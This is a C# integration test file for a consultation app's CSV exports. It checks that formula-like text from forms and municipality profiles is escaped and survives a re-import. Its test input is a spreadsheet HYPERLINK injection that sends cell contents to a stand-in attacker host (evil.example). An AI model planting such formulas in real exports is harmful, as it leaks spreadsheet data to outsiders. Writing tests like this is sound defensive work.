using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using ConsultDesk.IntegrationTests.Infrastructure;
using ConsultDesk.Tests;

namespace ConsultDesk.IntegrationTests.Cases;

/// <summary>Text an inquirer or a colleague typed never reaches a manager's spreadsheet as a formula.</summary>
[Collection(SqliteCollection.Name)]
public sealed class CsvInjectionTests(SqliteApp app)
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";

    [Fact]
    public async Task The_case_export_shows_formula_text_from_the_public_form_as_text()
    {
        using var anonymous = app.CreateClient();
        var body = Infrastructure.Inquiries.Company();
        body["subject"] = Hyperlink;
        body["message"] = "\r=1+1";
        body["organization"]!["name"] = "+81 株式会社サンプル";
        body["organization"]!["department"] = "-人事部";   // single-line fields refuse tab and CR (the unit tests cover those)
        body["contact"]!["familyName"] = "-髙橋";
        body["contact"]!["givenName"] = "@吉子";
        var submitted = await Infrastructure.Inquiries.PostAsync(anonymous, body);
        Assert.True(submitted.StatusCode == HttpStatusCode.Created, await submitted.Content.ReadAsStringAsync());
        var reference = (await submitted.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("reference").GetString();

        var (manager, _) = await Staff.NewUserAsync(app, "manager");
        var response = await manager.GetAsync("/api/v1/cases.csv");
        var bytes = await response.Content.ReadAsByteArrayAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Empty(SpreadsheetCsv.Formulas(bytes));
        var row = SpreadsheetCsv.Parse(bytes).Single(r => r[0] == reference);
        Assert.Equal("'+81 株式会社サンプル", row[3]);
        Assert.Equal("'" + Hyperlink, row[5]);
    }

    [Fact]
    public async Task The_municipality_export_escapes_formulas_and_imports_back_unchanged()
    {
        var (consultant, _) = await Staff.NewUserAsync(app, "consultant");
        var code = "36805" + ConsultDesk.Domain.LocalGovernmentCode.CheckDigit("36805"); // an unused 8xx code
        var put = await consultant.PutAsJsonAsync($"/api/v1/municipalities/{code}", new
        {
            name = Hyperlink, contactDepartment = "@企画課", contactEmail = "kikaku@example.jp", contactPhone = "+81-88-000-0000",
            description = "-紹介文", welcomedIndustries = new[] { "G" }, welcomedCompanySizes = new[] { "small" }, isPublished = false,
            offices = new[] { new { name = "+オフィス", address = "=A1", seats = 10, availableSeats = 4, monthlyFeePerSeat = 5000, bandwidthMbps = 1000, meetingRooms = 1, openingHours = "-", travelMinutesFromTokyo = 200 } },
            incentives = new[] { new { name = "@補助金", kind = "subsidy", capYen = 1_000_000, rate = "-", eligibility = "=進出する法人" } },
        });
        Assert.True(put.IsSuccessStatusCode, await put.Content.ReadAsStringAsync());
        var before = await (await consultant.GetAsync($"/api/v1/municipalities/{code}")).Content.ReadFromJsonAsync<JsonElement>();

        var bytes = await (await consultant.GetAsync("/api/v1/municipalities/export.csv")).Content.ReadAsByteArrayAsync();
        Assert.Empty(SpreadsheetCsv.Formulas(bytes));
        Assert.Contains("'" + Hyperlink, SpreadsheetCsv.Parse(bytes).Where(r => r[1] == code).Select(r => r[2]));

        // Only this profile's rows go back (the shared database holds rows other tests wrote past the import's rules).
        var lines = System.Text.Encoding.UTF8.GetString(bytes.AsSpan(3)).Split("\r\n");
        var mine = string.Join("\r\n", lines.Take(1).Concat(lines.Skip(1).Where(l => l.Contains("," + code + ",", StringComparison.Ordinal)))) + "\r\n";
        var imported = await consultant.PostAsync("/api/v1/municipalities/import", new StringContent(mine, System.Text.Encoding.UTF8, "text/csv"));
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);
        var after = await (await consultant.GetAsync($"/api/v1/municipalities/{code}")).Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(before.GetProperty("profile").GetRawText(), after.GetProperty("profile").GetRawText());
        Assert.Equal(Hyperlink, after.GetProperty("profile").GetProperty("name").GetString());
    }
}
